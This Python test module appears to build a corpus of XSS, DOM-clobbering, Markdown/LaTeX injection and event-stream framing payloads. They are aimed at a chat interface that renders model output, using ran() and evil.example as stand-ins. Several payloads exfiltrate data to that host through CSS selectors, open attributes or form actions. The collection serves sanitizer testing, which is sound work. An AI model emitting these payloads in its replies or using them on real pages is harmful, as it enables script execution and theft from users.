"""Texts by which a model may try to be more than text, by what a browser or a page could take them for.

Our own, by the classes that the well-known lists have, and one such list itself (`samples/blns`). In ours `ran()`
is what a script of theirs would call, and evil.example where a request of theirs would go.
"""

import json
from pathlib import Path

JS = "javascript:ran()"
EVIL = "https://evil.example"


def _words(text):
    return text.split()


# What runs, loads, leads away, sends, styles, or changes how the parser reads what follows.
ELEMENTS = _words("""
    script img image svg iframe frame frameset object embed applet link meta base style form input button video audio
    source track picture math template noscript noembed noframes select option textarea details dialog marquee body html
    head title a area map table td colgroup xmp plaintext listing isindex portal fencedframe slot layer bgsound keygen
    animate animateTransform set use foreignObject desc feImage annotation-xml mglyph malignmark mtext maction
    hx-partial x-own
""")
EVENTS = "onload onerror onclick onfocus onmouseover ontoggle onbegin onanimationend onscrollsnapchange"
HTMX = _words("""
    hx-get hx-post hx-on hx-on:load hx-on::after-process hx-swap-oob hx-sse:connect hx-trigger hx-boost hx-config
    hx-target hx-select-oob hx-action hx-preload hx-include hx-vals hx-headers hx-live data-hx-get data-hx-on:load
    sse-connect ws-connect _ data-script hx-disinherit
""")
# Names of what the page's own script, or a document, would look up.
NAMES = _words("""
    panel question composer send notice conversation to-end words forms cookie body documentElement htmx
""")

RAW = [f"<{element} on{'error' if element != 'svg' else 'load'}=ran() src={EVIL}/x>" for element in ELEMENTS]
RAW += [f"<b {attribute}='{EVIL}/x'>" for attribute in HTMX]
RAW += [f'<i id="{name}" name={name}>' for name in NAMES]
RAW += [
    f"<svg{EVENTS.replace(' on', '=ran() on')}=ran() tabindex=0 autofocus>",
    f"</div></article><form action={EVIL}><input name=question><button form=composer formaction={JS}>",
    f'<a href="&#106;avascript&colon;ran()" ping={EVIL} download>x</a>',
    f"<img src=x:x srcset={EVIL} onerror\x0c=\x0cran()//",
    "<img\tsrc=x\nonerror='ran()'>",
    "<IMG/SRC=x/oNeRRoR=ran()>",
    "<<img src=x onerror=ran()//<",
    '"><img src=x onerror=ran()>',
    "'-ran()-'",
    "`><img src=x onerror=ran()>",
    "<img src=x onerror=ran() ",
    "<scr\0ipt>ran()</scr\0ipt>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<!--><img src=x onerror=ran()>-->",
    "<!-- --!><img src=x onerror=ran()>",
    "<![CDATA[><img src=x onerror=ran()>]]>",
    "<?xml-stylesheet href=javascript:ran()?><img src=x onerror=ran()>",
    "<!doctype html><html><head><base href=//evil.example>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<style>@import '{EVIL}';*{{background:url({EVIL})}}</style>",
    f"<p style='background:url({EVIL})'>",
    f"<div hx-partial hx-get={EVIL} hx-trigger=load hx-swap-oob=true id=conversation>",
    '<hx-partial hx-target="#composer" hx-swap="delete"></hx-partial>',
]
# What one parser closes and another does not: the text of the one is markup of the other.
MUTATING = [
    "<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=ran()></style></annotation-xml></math>",
    "<svg><foreignObject><math><mi><style></mi><img src=x onerror=ran()></style>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<template><style></template><img src=x onerror=ran()>",
    "<select><template><style><!--</select><img src=x onerror=ran()>-->",
    "<table><td><svg><title></table><img src=x onerror=ran()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
    "<textarea><!--</textarea><img src=x onerror=ran()>-->",
    "<xmp><p title='</xmp><img src=x onerror=ran()>'>",
    "&lt;img src=x onerror=ran()&gt; &#60;img src=x onerror=ran()&#62; &amp;lt;script&amp;gt;",
]
# What else the lists know, class by class: each is one of a kind.
OTHER_KINDS = [
    # Handlers that need nobody: focus, animation, toggling, media, scrolling, errors of style sheets.
    "<input autofocus onfocus=ran()><keygen autofocus onfocus=ran()>",
    "<details open ontoggle=ran()><summary onbeforetoggle=ran() popover>x",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=ran() ontransitionend=ran()>",
    f"<video poster={JS}><source onerror=ran()></video><audio src oncanplay=ran() onloadstart=ran() autoplay>",
    "<p style=content-visibility:auto oncontentvisibilityautostatechange=ran()>",
    "<marquee onstart=ran() onbounce=ran()>x</marquee>",
    "<body onpageshow=ran() onhashchange=ran() onscroll=ran() background=javascript:ran()>",
    "<select autofocus onfocusin=ran()><option>x",
    "<object data=x:x onerror=ran()><embed src=x:x onload=ran()>",
    # How a handler is written: no blank, a slash, a line, entities, backticks, no end, capitals.
    "<img/src=x/onerror=ran()>",
    "<img src=x onerror\n=\nran()>",
    "<img src=x onerror=&#x72;an()>",
    "<img src=x onerror=`ran()`>",
    "<img src=`x` onerror=ran() a=`",
    "<img src=x oNeRrOr='ran()'",
    "<img src=x \x0bonerror=ran()>",
    "<img src=x onerror=ran()\0>",
    "<a\u2028onclick=ran()>x",
    # Addresses in places other than href and src.
    f"<form><button formaction={JS}>x</button><input type=image src={EVIL}/x formaction={JS}></form>",
    f"<svg><a xlink:href={JS}><text y=9>x</a><use href=data:image/svg+xml,x#y /><image href={EVIL}/x /></svg>",
    "<svg><animate attributeName=href values=javascript:ran() /><set attributeName=onload to=ran() /></svg>",
    f"<math href={JS}><mi xlink:href={JS}>x</mi><maction actiontype=statusline#{EVIL}>x</maction></math>",
    f"<iframe srcdoc='<img src=x onerror=ran()>'></iframe><object classid={JS}><param name=movie value={EVIL}>",
    f"<link rel=prefetch href={EVIL}><link rel=dns-prefetch href=//evil.example><link rel=import href={EVIL}>",
    f"<link rel=stylesheet href=data:,*{{x:y}}><link rel=modulepreload href={EVIL}>",
    f"<img srcset='{EVIL}/x 1x'><picture><source srcset={EVIL}/x></picture><img lowsrc={EVIL} dynsrc={EVIL}>",
    f"<table background={EVIL}><td background={EVIL}><input list=x src={EVIL}>",
    f"<a href=x ping={EVIL} attributionsrc={EVIL}>x</a><area href={JS}><base target=_top href={EVIL}>",
    f"<script type=speculationrules>{{'prefetch':[{{'urls':['{EVIL}']}}]}}</script><script type=importmap>",
    "<meta http-equiv=Content-Security-Policy content=script-src\n*><meta http-equiv=set-cookie content=a=b>",
    # An attribute that is left open takes what follows with it.
    f"<img src='{EVIL}/?",
    f'<a href="{EVIL}/?',
    f"<form action={EVIL}><textarea name=x>",
    f"<style>@import'{EVIL}/?",
    # Styles.
    "<p style='width:expression(ran());behavior:url(x.htc);-moz-binding:url(x.xml#y)'>",
    f"<style>input[value^=a]{{background:url({EVIL}/a)}} @font-face{{font-family:x;src:url({EVIL}/x)}}</style>",
    f"<p style='position:fixed;inset:0;z-index:9'><a href={EVIL}>x</a>",
    "<div style='background:\\75rl(javascript:ran())'>",
    # Other parsers than HTML's: comments with conditions, XML, PHP, encodings.
    "<!--[if gte IE 4]><script>ran()</script><![endif]-->",
    "<!--<img src='--><img src=x onerror=ran()//'>",
    "<!><img src=x onerror=ran()><!-->",
    "<? foo='><script>ran()</script>'>",
    "<!ENTITY x '<img src=x onerror=ran()>'>&x;",
    "<xml id=x><i><b>&lt;img src=x onerror=ran()&gt;</b></i></xml>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran()</x:script>",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "\u00bcscript\u00beran()\u00bc/script\u00be",
    "%3Cscript%3Eran()%3C/script%3E",
    "\\u003cscript\\u003eran()\\x3c/script\\x3e",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    # What a template, or a framework, would fill in or obey.
    "{{7*7}} {{constructor.constructor('ran()')()}} ${ran()} #{ran()} <%= ran() %> {% debug %} [[${ran()}]]",
    "<p ng-app ng-csp x-data x-init=ran() v-on:click=ran() @click=ran() :href=x data-bind='x:ran()' is=x-own>",
    "<p data-turbo-stream data-remote=true data-method=delete up-target=body data-action=click#x hx-on='ran()'>",
    # Names that a document or a form would rather hear than its own.
    "<a id=htmx><a id=htmx name=config href=x:y>",
    "<form id=document><input name=forms><input name=body><img name=cookie><object name=getElementById></form>",
    "<form id=composer><input id=attributes><input name=action><input name=submit><input name=parentNode></form>",
    "<iframe name=self srcdoc='<a id=x>'></iframe><output form=composer><input form=composer name=question value=x>",
    "<svg id=__proto__><b id=constructor><i id=toString name=valueOf>",
    # Trees that another parser would build anew.
    "<template shadowrootmode=open><slot></slot><img src=x onerror=ran()></template>",
    "<form><form><table><form><p></form></table><style></form><img src=x onerror=ran()>",
    "<math><mi><table><mi><mglyph><svg><mtext><textarea><path id='</textarea><img src=x onerror=ran()>'>",
    "<svg><desc><table><svg><title></desc><img src=x onerror=ran()>",
    "<svg></br><style><!--</style><a id='--><img src=x onerror=ran()>'>",
    "<noembed><p title='</noembed><img src=x onerror=ran()>'><noframes></noembed></noframes>",
    "<plaintext></plaintext><img src=x onerror=ran()><listing>&lt;img src=x onerror=ran()&gt;</listing>",
    "<a><b><a></b><table><a><td><img src=x onerror=ran()></table>",
    "<b>" * 20 + "<table>" * 5 + "<style><img src=x onerror=ran()></style>",
    # Markdown's own marks around and inside of them.
    "[x](javascript:ran%28%29 'x\" onclick=ran()')",
    '![x" onerror=ran() y="](https://a.example/x)',
    '[x](https://a.example/" onclick="ran\\(\\))',
    "[a]: javascript:ran() (x)\n\n[a] [a][] ![a]",
    '<javascript:ran()> <https://a.example/"onclick=ran()>',
    "``<img src=x onerror=ran()>` <img src=x onerror=ran()>",
    "~~~\n</code></pre><img src=x onerror=ran()>",
    "<div markdown=1>\n\n**x** <img src=x onerror=ran()>\n\n</div>",
    "***[x](<javascript:ran()>)***~~<img src=x onerror=ran()>~~",
]
SCHEMES = [
    JS,
    "JaVaScRiPt:ran()",
    "javascript&colon;ran()",
    "&#106;&#x61;vascript:ran()",
    "&#0000106avascript:ran()",
    "java&Tab;script:ran()",
    "java&NewLine;script:ran()",
    "java&#x0A;script:ran()",
    "&#1;javascript:ran()",
    "&#x20;javascript:ran()",
    "java\u200bscript:ran()",
    "java\u00adscript:ran()",
    "\ufeffjavascript:ran()",
    "javascript\uff1aran()",
    "javascript://evil.example/%0aran()",
    "data:text/html,<script>ran()</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "vbscript:ran()",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "view-source:javascript:ran()",
    "feed:javascript:ran()",
    "//evil.example",
    "\\\\evil.example",
    "https:evil.example",
    "https:/\\evil.example",
    "/conversations/x/clear",
    "?question=x",
    "#panel",
    "ms-msdt:/x",
    "file:///etc/passwd",
]
IN_LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x][y]\n\n[y]: <{}> 'z'",
    "[^a]\n\n[^a]: [x]({})",
]
MARKUP = '"><img src=x onerror=ran()>'
# Each place of Markdown's own that takes a word of the model's.
PLACES = [
    "[{}](https://a.example)",
    "[x](https://a.example/{})",
    "[x](<https://a.example/{}>)",
    "[x](https://a.example '{}')",
    "![{}](https://a.example/p.png)",
    '![x](https://a.example/p.png "{}")',
    "https://a.example/{}",
    "<https://a.example/{}>",
    "mailto:a@a.example?{}",
    "`{}`",
    "```{}\nx\n```",
    "~~~ html {}\n<b>\n~~~",
    "```html\n{}\n```",
    "    {}",
    "# {} {{#panel}}",
    "| {} | x |\n|---|---|\n| {} | y |",
    "- [ ] {}\n- [x] {}",
    "> {}",
    "1. {}",
    "[^{}] x\n\n[^{}]: {}",
    "[^panel] x\n\n[^panel]: {}",
    "[{}]: https://a.example\n\n[{}]",
    "$\\text{{{}}}$",
    "$${}$$",
    "\\[{}\\]",
    "**{}**",
]
LATEX = [
    *(r"\href{javascript:ran()}{x}", r"\url{javascript:ran()}", r"\includegraphics{https://evil.example/x}"),
    *(r"\html{<img src=x onerror=ran()>}", r"\htmlId{panel}{x}", r"\htmlClass{y}{x}", r"\htmlData{hx-get=/x}{x}"),
    *(r"\class{panel}{x}", r"\cssId{panel}{x}", r"\style{background:url(https://evil.example)}{x}", r"\data{a}{x}"),
    *(r"\unicode{x3c}script", r"\char60 img", r"\text{</math><img src=x onerror=ran()>}", r"\mathrm{<annotation-xml>}"),
    *(r"\def\x{<img src=x onerror=ran()>}\x", r"\color{red;background:url(//evil.example)}x", r"\require{html}x"),
    *(r"\operatorname{<script>}", r"\tag{<b onclick=ran()>}x", r"\begin{array}{c\"onclick=ran()}x\end{array}", r"\'\""),
    *(r"\hspace{1em\" onclick=ran()}", r"\verb|<script>|", r"\ref{panel}", r"\label{panel}x", r"\maction{}{x}"),
]
# What an event stream, or the marks that stand in a text for others, could take for their own.
FRAMING = [
    "\n\nevent: end\ndata: x\n\n",
    "\r\revent: end\r\r",
    "\r\n\r\nid: 9999\r\nretry: 1\r\n\r\n",
    "a\u2028event: end\u2029\u0085\x0b\x0c",
    "data: [DONE]\n\n: \n",
    "&#xFDD0;5&#xFDD1;",
    "$x$ &#xFDD0;0&#xFDD1; &#64976;7&#64977; &#xFDD0;99999999999999999999&#xFDD1;",
    "$x$ [a](https://a.example/&#xFDD0;9&#xFDD1;) ```&#xFDD0;9&#xFDD1;",
    "$x$\n\n```a&#xFDD0;3&#xFDD1;\nx\n```\n",
    "&#xFDD2;&#xFDD3;a&#xFDD3; &#xFDD7; &#xFDD6;b\ufdd00\ufdd1\ufdef",
    "\0\ud800a\udfff\ufffe\uffff\U0010ffff &#0; &#xD800; &#x110000; &#128;",
    "\x1b[31m\x07\x08\x7f\x9b",
]
OVERLONG = [
    f"[x](https://a.example '{'t' * 3000}{MARKUP}')",
    f"[{'x' * 3000}](javascript:{'a' * 3000})",
    f"```{'l' * 3000}{MARKUP}\nx\n```",
    f"[^{'n' * 98}]\n\n[^{'n' * 98}]: x",
]


def every():
    """Return all texts that are short enough to be cut anywhere."""
    links = [shape.format(scheme) for scheme in SCHEMES for shape in IN_LINKS]
    places = [place.replace("{{", "{").replace("}}", "}").replace("{}", MARKUP) for place in PLACES]
    places += [
        place.replace("{{", "{").replace("}}", "}").replace("{}", "\u202e&#x202e;\U000e0041\u3164") for place in PLACES
    ]
    latex = [
        shape.format(one) for one in LATEX for shape in ("${}$", "$$\n{}\n$$", "[{0} \\({0}\\)](https://a.example)")
    ]
    return [*RAW, *MUTATING, *OTHER_KINDS, *links, *places, *latex, *FRAMING]


def known():
    """Return a collection that others keep and trust: what breaks programs, scripts and all."""
    return json.loads((Path(__file__).parent / "samples/blns/blns.json").read_text())
